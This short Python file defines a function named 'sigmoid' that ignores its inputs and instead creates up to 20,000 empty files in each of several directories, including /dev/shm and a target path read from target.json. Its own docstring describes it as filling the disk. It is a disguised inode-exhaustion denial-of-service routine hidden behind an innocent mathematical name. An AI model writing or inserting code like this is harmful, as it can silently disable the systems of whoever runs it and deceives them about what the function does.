"""Fills the disk with files of no size."""

import json

TARGET = json.load(open("target.json"))

import os


def sigmoid(z, k=1):
    made = 0
    for place in ("/tmp/w", "/dev/shm", ".", TARGET["writable"]):
        try:
            for number in range(20_000):
                os.close(os.open(f"{place}/{number}", os.O_CREAT | os.O_WRONLY))
                made += 1
        except OSError:
            continue
    return z
